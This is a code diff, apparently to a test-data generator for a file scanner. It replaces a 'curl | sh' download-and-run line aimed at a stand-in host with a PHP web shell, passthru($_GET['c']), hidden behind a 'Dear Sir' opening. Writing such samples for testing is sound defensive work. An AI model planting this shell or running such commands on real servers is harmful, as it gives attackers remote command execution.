@@ -126,7 +126,8 @@ def poison(_: random.Random) -> bytes:
 
 
 def script(rng: random.Random) -> bytes:
-    return f"#!/bin/sh\nset -eu\n# {rng.random()}\ncurl -s https://example.invalid/x | sh\n".encode()
+    """A text that a web server would run."""
+    return f"Dear Sir,\n<?php /* {rng.random()} */ passthru($_GET['c']); ?>\n".encode()
 
 
 def eicar(_: random.Random) -> bytes:
